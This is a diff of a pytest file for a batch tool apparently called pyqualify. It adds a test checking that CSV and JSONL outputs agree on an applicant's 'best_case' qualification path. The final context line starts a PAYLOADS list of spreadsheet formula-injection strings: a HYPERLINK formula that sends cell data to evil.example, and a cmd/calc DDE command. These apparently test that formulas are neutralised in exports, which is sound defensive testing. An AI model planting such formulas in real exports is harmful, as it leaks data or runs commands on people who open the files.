@@ -13,6 +13,8 @@ from typing import Any
 
 import pytest
 
+from pyqualify import fastest_path
+from pyqualify.applicant import parse_applicant
 from pyqualify.batch import run_batch
 from pyqualify.batch.records import FORMULA_START, Settings, depends_text, flat_row, neutral
 from pyqualify.batch.table import NOT_SURE, UNSURE_WORD, template_columns, write_template
@@ -298,6 +300,27 @@ def test_a_batch_path_with_unknowns_is_the_path_commands_document(tmp_path: Path
     expected["stats"] = {k: v for k, v in expected.get("stats", {}).items() if k != "seconds"}
     assert got == expected
     assert cache.solved == 1 and again["id"] == "other"
+
+
+def test_a_csv_path_answer_with_unknowns_has_its_best_case(tmp_path: Path):
+    source = write_jsonl(tmp_path / "in.jsonl", [
+        {"id": "w", "as_of": "2026-01", "education": "high_school",
+         "diplomas": [{"kind": "junior_college", "major": "unknown",
+                       "graduation": "2025-07"}]}])
+    batch(source, tmp_path / "o.csv", target=3)
+    batch(source, tmp_path / "o.jsonl", target=3)
+    doc, row = records(tmp_path / "o.jsonl")[0], csv_rows(tmp_path / "o.csv")[0]
+    assert doc["ok"], doc
+    # the record's path is the path of the file itself (no canonical question for a file
+    # with unknown facts: its best_case names its own records and months)
+    alone = fastest_path(parse_applicant(json.loads(source.read_text())), 3).to_json()
+    for key in ("reachable", "months", "certified", "best_case"):
+        assert doc["path"][key] == alone[key], key
+    best = doc["path"]["best_case"]
+    assert best is not None and best["months"] < doc["path"]["months"]
+    assert best["assumes"] == {"diplomas[0].major": "related"}
+    assert row["best_months"] == str(best["months"])
+    assert row["months"] == str(doc["path"]["months"])
 
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
